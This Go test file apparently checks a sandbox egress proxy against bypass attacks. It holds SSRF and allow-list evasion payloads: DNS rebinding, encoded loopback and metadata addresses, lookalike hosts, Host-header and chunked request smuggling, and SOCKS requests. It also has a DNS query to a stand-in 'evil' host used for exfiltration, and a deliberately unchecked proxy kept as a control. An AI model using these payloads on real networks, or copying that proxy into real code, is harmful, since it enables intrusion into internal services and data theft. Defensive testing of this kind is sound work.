package hostile

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync/atomic"
	"time"

	"assay/internal/sandbox"
)

// The one name that the rules of these attacks allow. Where it leads is the
// attack's choice: whoever owns a name answers for it.
const allowedName = "good.example"

// way makes the gate of an allow-list, or without its wall a proxy that does
// what it is asked.
func way(names func(n int64, name string) []netip.Addr) func(*field) (sandbox.Egress, error) {
	return func(f *field) (sandbox.Egress, error) {
		asked := &atomic.Int64{}
		look := func(name string) []netip.Addr {
			if name == "secret.evil.test" {
				f.found.Add(1) // the query alone has told it
			}
			return names(asked.Add(1), name)
		}
		if f.off&sandbox.DefEgress != 0 {
			return credulous{look}, nil
		}
		return f.gate([]string{allowedName}, look)
	}
}

// leads answers every name with the same address.
func leads(to string) func(int64, string) []netip.Addr {
	return func(int64, string) []netip.Addr { return []netip.Addr{netip.MustParseAddr(to)} }
}

// rebinds says something harmless at first.
func rebinds(n int64, _ string) []netip.Addr {
	if n%2 == 1 {
		return []netip.Addr{netip.MustParseAddr("198.41.0.4")} // public, and nowhere to be reached from the arena
	}
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}
}

// proxied makes an attack through the proxy and looks whether anybody came to
// the host's listeners.
func proxied(f *field) (bool, string, error) {
	before := f.found.Load()
	_, detail, err := f.inside("by the proxy", f.a.name)
	time.Sleep(50 * time.Millisecond) // a listener counts when it accepts
	n := f.found.Load() - before
	return n > 0, fmt.Sprintf("%d came through; %s", n, detail), err
}

func egressAttacks() []attack {
	var all []attack
	add := func(name string, names func(int64, string) []netip.Addr) {
		all = append(all, attack{name: name, class: "egress", off: sandbox.DefEgress, arena: true, way: way(names), try: proxied})
	}
	add("rebinding", rebinds)
	add("a name of the loopback", leads("127.0.0.1"))
	add("a name of the metadata service", leads(metadata))
	add("a name of the IPv6 loopback", leads("::1"))
	add("a name of a mapped address", leads("::ffff:127.0.0.1"))
	add("an address for a name", leads("198.41.0.4"))
	add("a name beside the allowed one", leads("127.0.0.1"))
	add("another host in a header", leads("127.0.0.1"))
	add("another host by SOCKS", leads("127.0.0.1"))
	add("a question that tells", leads("198.41.0.4"))
	return all
}

// proxyAttackers ask the proxy, each in its ways. Whether it worked, the host knows.
func proxyAttackers() tries {
	connect := func(target string) string { return "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n" }
	at := func(hosts ...string) (out []string) {
		for _, h := range hosts {
			out = append(out, connect(fmt.Sprintf("%s:%d", h, baitPort)))
		}
		return out
	}
	port := fmt.Sprint(":", baitPort)
	get := func(url string, headers ...string) string {
		return "GET " + url + " HTTP/1.1\r\n" + strings.Join(headers, "\r\n") + "\r\nConnection: close\r\n\r\n"
	}
	socks := func(kind byte, addr string) string {
		return "\x05\x01\x00" + "\x05\x01\x00" + string(kind) + addr + string([]byte{byte(baitPort >> 8), byte(baitPort & 0xff)})
	}
	say := map[string][]string{
		"rebinding":                      append(at(allowedName, allowedName, allowedName), get("http://"+allowedName+port+"/", "Host: "+allowedName+port)),
		"a name of the loopback":         at(allowedName),
		"a name of the metadata service": at(allowedName),
		"a name of the IPv6 loopback":    at(allowedName),
		"a name of a mapped address":     at(allowedName),
		"an address for a name": at("127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[::]",
			"localhost", "localhost.", "bait-host", metadata, "[::ffff:a9fe:a9fe]", "0", "127.0.0.1%2e", "127。0。0。1"),
		"a name beside the allowed one": append(at("evil"+allowedName, allowedName+".evil.test", "evil.test", "x."+allowedName, strings.TrimSuffix(allowedName, ".example")),
			connect(allowedName+":443@127.0.0.1"+port), connect("127.0.0.1"+port+"#"+allowedName), connect(allowedName+"\x00.evil.test"+port),
			get("http://"+allowedName+"@127.0.0.1"+port+"/", "Host: "+allowedName), get("http://127.0.0.1"+port+"\\@"+allowedName+"/", "Host: "+allowedName)),
		"another host in a header": {get("http://refused.test/", "Host: 127.0.0.1"+port), get("/", "Host: 127.0.0.1"+port),
			get("http://127.0.0.1"+port+"/", "Host: "+allowedName), get("http://refused.test/", "Host: "+allowedName, "Host: 127.0.0.1"+port),
			"POST http://refused.test/ HTTP/1.1\r\nHost: refused.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
				get("http://127.0.0.1"+port+"/", "Host: 127.0.0.1"+port)},
		"another host by SOCKS": {socks(1, "\x7f\x00\x00\x01"), socks(4, "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\x7f\x00\x00\x01"),
			socks(3, "\x09127.0.0.1"), socks(3, "\x09localhost"), socks(3, string(rune(len(allowedName)+5))+allowedName+"\x00evil"), socks(1, "\x00\x00\x00\x00")},
		"a question that tells": at("secret.evil.test"),
	}
	return tries{"by the proxy": func(args []string) error {
		answers := ""
		for _, what := range say[args[0]] {
			c, err := net.DialTimeout("tcp", fmt.Sprint("127.0.0.1:", sandbox.ProxyPort), 5*time.Second)
			if err != nil {
				return err
			}
			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
			_, err = io.WriteString(c, what)
			b := make([]byte, 64)
			n, rerr := c.Read(b)
			c.Close()
			if err != nil && rerr != nil {
				answers += "broken off; "
			} else {
				line, _, _ := strings.Cut(string(b[:n]), "\r")
				answers += fmt.Sprintf("%.40q; ", line)
			}
		}
		return errors.New(answers)
	}}
}

// credulous is a way out without judgement: what shows that the attacks on the
// gate have teeth. It looks at the first answer for a name and dials the second.
type credulous struct {
	look func(name string) []netip.Addr
}

func (c credulous) Names(ctx context.Context, in net.PacketConn) {
	<-ctx.Done() // the attacks ask the proxy
	in.Close()
}

func (c credulous) Carries() bool { return false }

func (c credulous) Carry(_ context.Context, link io.ReadWriteCloser) error { return link.Close() }

func (c credulous) Proxy(ctx context.Context, in net.Conn) {
	defer in.Close()
	r := bufio.NewReader(in)
	first, err := r.Peek(1)
	if err != nil {
		return
	}
	to := ""
	if first[0] == 5 {
		b := make([]byte, 10) // of the form with four bytes of address
		if _, err := io.ReadFull(r, make([]byte, 3)); err != nil {
			return
		}
		if _, err := io.ReadFull(r, b); err != nil || b[3] != 1 {
			return
		}
		to = net.JoinHostPort(net.IP(b[4:8]).String(), fmt.Sprint(int(b[8])<<8|int(b[9])))
	} else {
		q, err := http.ReadRequest(r)
		if err != nil {
			return
		}
		to = q.Host
	}
	host, port, err := net.SplitHostPort(to)
	if err != nil {
		return
	}
	if _, err := netip.ParseAddr(host); err != nil {
		if judged := c.look(host); len(judged) == 0 { // whatever it says
			return
		}
		again := c.look(host)
		if len(again) == 0 {
			return
		}
		host = again[0].String()
	}
	out, err := (&net.Dialer{Timeout: 3 * time.Second}).DialContext(ctx, "tcp", net.JoinHostPort(host, port))
	if err != nil {
		return
	}
	defer out.Close()
	_, _ = io.Copy(in, io.LimitReader(out, 1<<16)) // who listens says a line and ends
}
